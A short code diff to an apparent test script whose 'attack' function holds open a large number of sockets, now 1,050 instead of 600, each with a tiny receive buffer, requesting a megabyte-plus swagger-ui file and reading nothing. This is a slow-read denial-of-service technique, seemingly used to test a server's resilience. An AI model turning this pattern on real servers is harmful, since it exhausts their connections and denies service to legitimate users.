@@ -1,4 +1,4 @@
-"""600 connections, more than one client may have, that ask for a megabyte and read nothing."""
+"""1,050 connections, more than there may be, that ask for a megabyte and read nothing."""
 
 import contextlib
 import socket
@@ -14,7 +14,7 @@ def attack(url):
     assert len(httpx.get(f"{url}/static-offline-docs/swagger-ui-bundle.js").content) > 1_000_000
     host, port = url.removeprefix("http://").split(":")
     with contextlib.ExitStack() as held:
-        for _ in range(600):
+        for _ in range(1050):
             one = held.enter_context(socket.socket())
             one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
             one.settimeout(10)
